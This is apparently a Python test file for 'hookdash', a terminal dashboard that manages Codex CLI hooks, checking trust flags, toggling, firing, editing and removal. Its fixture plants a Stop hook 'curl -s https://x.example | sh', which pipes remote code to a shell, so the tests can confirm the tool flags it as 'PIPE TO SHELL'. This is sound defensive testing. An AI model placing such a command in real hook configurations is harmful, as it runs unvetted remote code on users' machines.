"""The dashboard with Codex CLI's hooks in the tree: each line says whose (X) and why
Codex skips it (UNTRUSTED, MODIFIED: Codex says nothing), and the details give Codex's key,
what the matcher is tested against, the timeout in seconds and the sentence where Codex is
silent. The sandbox's CODEX_HOME and /etc/codex stand-in are its own."""

from __future__ import annotations

from typing import Any

from hookdash.core import with_claude, with_other_hosts
from hookdash.tui.app import HookdashApp
from hookdash.tui.widgets.hook_tree import HookTree
from tests.conftest import Sandbox
from tests.tui.helpers import select, text_of, tree_lines


def group(command: str, matcher: str | None = None, **handler: Any) -> dict[str, Any]:
    out: dict[str, Any] = {} if matcher is None else {"matcher": matcher}
    out["hooks"] = [{"type": "command", "command": command, **handler}]
    return out


def codex_setup(sandbox: Sandbox) -> None:
    codex = sandbox.home / ".codex"
    sandbox.write(
        codex / "hooks.json",
        {
            "hooks": {
                "PreToolUse": [group("echo codex-guard", matcher="Bash", timeout=30)],
                "Stop": [group("curl -s https://x.example | sh")],
            }
        },
    )
    key = f"{codex / 'hooks.json'}:pre_tool_use:0:0"
    sandbox.write(codex / "config.toml", f'[hooks.state."{key}"]\ntrusted_hash = "sha256:0"\n')


def codex_app(sandbox: Sandbox) -> HookdashApp:
    """The dashboard on the configuration its loading thread reads (every host's)."""
    config = with_other_hosts(with_claude(sandbox.load()))
    return HookdashApp(sandbox.env(), configuration=config, watch=False)


async def test_codex_hooks_are_in_the_tree_with_their_trust(sandbox: Sandbox) -> None:
    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        lines = tree_lines(app.screen.query_one(HookTree))
    guard = next(line for line in lines if "echo codex-guard" in line)
    assert guard.lstrip().startswith("X off: modified") and "MODIFIED" in guard
    risky = next(line for line in lines if "curl -s" in line)
    assert "off: untrusted" in risky and "UNTRUSTED" in risky
    assert any("codex user" in line for line in lines)


async def test_details_of_a_codex_hook(sandbox: Sandbox) -> None:
    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.pause()
        text = text_of(app.screen.query_one("#details-body"), 110)
    assert "Codex CLI 0.171.0" in text
    assert "~/.codex/hooks.json:pre_tool_use:0:0" in text
    assert "'Bash', a regex over the whole tool_name" in text
    assert "30 s" in text
    assert "Codex skips this hook without a word: it changed since you trusted it" in text


async def test_a_risky_codex_hook_shows_its_flags(sandbox: Sandbox) -> None:
    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "curl -s https://x.example | sh")
        await pilot.pause()
        text = text_of(app.screen.query_one("#details-body"), 110)
    assert "PIPE TO SHELL" in text and "never trusted" in text


async def test_space_switches_a_codex_hook_off_and_on_bytes_back(sandbox: Sandbox) -> None:
    from tests.tui.helpers import until

    codex_setup(sandbox)
    config = sandbox.home / ".codex" / "config.toml"
    before = config.read_bytes()
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("space")
        await until(lambda: b"enabled = false" in config.read_bytes())
        await until(
            lambda: (
                app.config is not None
                and any(h.switched_off for o in app.config.more_hosts for h in o.hooks)
            )
        )
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("space")
        await until(lambda: config.read_bytes() == before)


async def test_f_fires_a_codex_hook_after_asking(sandbox: Sandbox) -> None:
    """The fire screen every host has: Codex's payload, the question before a hook Codex
    skips (modified), then what Codex would do, verdict first; `o` shows it whole."""
    import json

    from hookdash.tui.screens.confirm import ConfirmScreen
    from hookdash.tui.screens.fire import FireScreen
    from hookdash.tui.screens.output import OutputScreen
    from tests.tui.helpers import until

    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("f")
        await until(lambda: isinstance(app.screen, FireScreen))
        fire = app.screen
        assert isinstance(fire, FireScreen)
        assert json.loads(fire.payload_text)["tool_name"] == "Bash"
        status = text_of(fire.query_one("#payload-status"), 300)
        assert "Codex skips this hook without a word" in status  # why it would not run
        await pilot.press("ctrl+r")
        await until(lambda: isinstance(app.screen, ConfirmScreen))  # modified: Codex skips it
        question = text_of(app.screen.query_one("#confirm-body"), 200)
        assert "changed since you trusted it in Codex: Codex would skip it" in question
        await pilot.press("y")
        await until(lambda: fire.result is not None)
        body = text_of(fire.query_one("#result-body"), 200)
        assert "What Codex CLI would do" in body and "Codex would not run this hook" in body
        assert "✔ ok  echo codex-guard  codex user · exit 0" in body
        await pilot.press("o")
        await until(lambda: isinstance(app.screen, OutputScreen))
        text = app.screen.query_one("#output-text").text  # type: ignore[attr-defined]
    assert "what Codex CLI would do" in text and "Codex CLI would not run it" in text
    assert "codex-guard" in text
    runs = (sandbox.state / "runs.jsonl").read_text()
    assert '"host":"codex"' in runs


async def test_t_reviews_codex_hooks_and_trusts_what_it_showed(sandbox: Sandbox) -> None:
    """Codex's hooks in the one review every host has: each on its own line, whole when
    highlighted; trusting all records exactly those in the user's hooks.state."""
    from hookdash.tui.screens.confirm import ConfirmScreen
    from hookdash.tui.screens.trust import TrustScreen
    from hookdash.tui.widgets.check_list import CheckList
    from tests.tui.helpers import plain, until

    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        await pilot.press("T")
        await until(lambda: isinstance(app.screen, TrustScreen))
        listing = app.screen.query_one("#trust-list", CheckList)
        lines = [
            plain(listing.get_option_at_index(i).prompt, 200) for i in range(listing.option_count)
        ]
        assert len(lines) == 2 and all("codex" in line for line in lines), lines
        assert any("CHANGED" in line and "echo codex-guard" in line for line in lines)
        assert any("NEW" in line and "pipe to shell" in line.lower() for line in lines)
        await pilot.press("A")
        await until(lambda: isinstance(app.screen, ConfirmScreen))
        body = text_of(app.screen.query_one("#confirm-body"), 200)
        assert "echo codex-guard" in body and "curl -s https://x.example | sh" in body
        assert "PIPE TO SHELL" in body and "timeout 30 s" in body
        await pilot.press("y")
        await until(
            lambda: (
                app.config is not None
                and all(h.trust == "trusted" for o in app.config.more_hosts for h in o.hooks)
            )
        )
    assert "trusted_hash" in (sandbox.home / ".codex" / "config.toml").read_text()


async def test_a_on_a_codex_hook_opens_codex_s_form_and_saves_to_its_hooks_json(
    sandbox: Sandbox,
) -> None:
    """The form every host without its own gets (`Host.add`): Codex's events, its scopes,
    its timeout in seconds; the diff under Checks before Save writes."""
    import json

    from textual.widgets import Input

    from hookdash.tui.screens.host_form import HostHookFormScreen
    from tests.tui.helpers import settle, until

    codex_setup(sandbox)
    hooks_json = sandbox.home / ".codex" / "hooks.json"
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("a")
        await until(lambda: isinstance(app.screen, HostHookFormScreen))
        form = app.screen
        assert isinstance(form, HostHookFormScreen) and form.event == "PreToolUse"
        form.query_one("#matcher", Input).value = "Bash"
        form.query_one("#command", Input).value = "echo added-by-form"
        form.query_one("#timeout", Input).value = "15"
        await until(lambda: form.review is not None and "added-by-form" in form.review.diff)
        assert "Codex CLI event" in str(form.query_one("#form-event").border_title)
        await pilot.press("ctrl+s")
        await until(lambda: not isinstance(app.screen, HostHookFormScreen))
        await settle(pilot)
    groups = json.loads(hooks_json.read_text())["hooks"]["PreToolUse"]
    added = groups[-1]
    assert added["matcher"] == "Bash"
    assert added["hooks"] == [{"type": "command", "command": "echo added-by-form", "timeout": 15}]


async def test_e_on_a_codex_hook_edits_it_in_place(sandbox: Sandbox) -> None:
    import json

    from textual.widgets import Input

    from hookdash.tui.screens.host_form import HostHookFormScreen
    from tests.tui.helpers import settle, until

    codex_setup(sandbox)
    hooks_json = sandbox.home / ".codex" / "hooks.json"
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("e")
        await until(lambda: isinstance(app.screen, HostHookFormScreen))
        form = app.screen
        assert isinstance(form, HostHookFormScreen)
        command = form.query_one("#command", Input)
        assert command.value == "echo codex-guard"  # the hook as written
        assert form.query_one("#timeout", Input).value == "30"
        await until(lambda: form.review is not None and form.unchanged)
        command.value = "echo codex-guard --edited"
        await until(lambda: form.review is not None and not form.unchanged)
        await pilot.press("ctrl+s")
        await until(lambda: not isinstance(app.screen, HostHookFormScreen))
        await settle(pilot)
    (group,) = json.loads(hooks_json.read_text())["hooks"]["PreToolUse"]
    assert group["hooks"][0]["command"] == "echo codex-guard --edited"
    assert group["hooks"][0]["timeout"] == 30


async def test_d_removes_a_codex_hook_after_its_diff(sandbox: Sandbox) -> None:
    import json

    from hookdash.tui.screens.confirm import ConfirmScreen
    from tests.tui.helpers import until

    codex_setup(sandbox)
    hooks_json = sandbox.home / ".codex" / "hooks.json"
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("d")
        await until(lambda: isinstance(app.screen, ConfirmScreen))
        assert "echo codex-guard" in text_of(app.screen.query_one("#confirm-body"), 200)
        await pilot.press("y")
        await until(lambda: "codex-guard" not in hooks_json.read_text())
    assert "Stop" in json.loads(hooks_json.read_text())["hooks"]


async def test_p_on_a_codex_hook_says_where_its_plan_is_not_gemini_s(sandbox: Sandbox) -> None:
    from hookdash.tui.screens.plan import PlanScreen
    from tests.tui.helpers import record_notifications, until

    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        shown = record_notifications(app)
        await pilot.pause()
        select(app.screen.query_one(HookTree), "echo codex-guard")
        await pilot.press("p")
        await until(lambda: bool(shown))
        assert not isinstance(app.screen, PlanScreen)
    message, _ = shown[-1]
    assert "no plan view for Codex CLI" in message
    assert "hookdash plan --host codex PreToolUse" in message


async def test_h_cycles_through_codex_s_hooks_too(sandbox: Sandbox) -> None:
    from textual.widgets import Input

    from tests.tui.helpers import until

    codex_setup(sandbox)
    app = codex_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await pilot.pause()
        box = app.screen.query_one("#filter", Input)
        seen = []
        for _ in range(3):
            await pilot.press("h")
            await pilot.pause()
            seen.append(box.value)
        await until(lambda: box.value == seen[-1])
    assert "host:codex" in seen and seen[-1] == ""
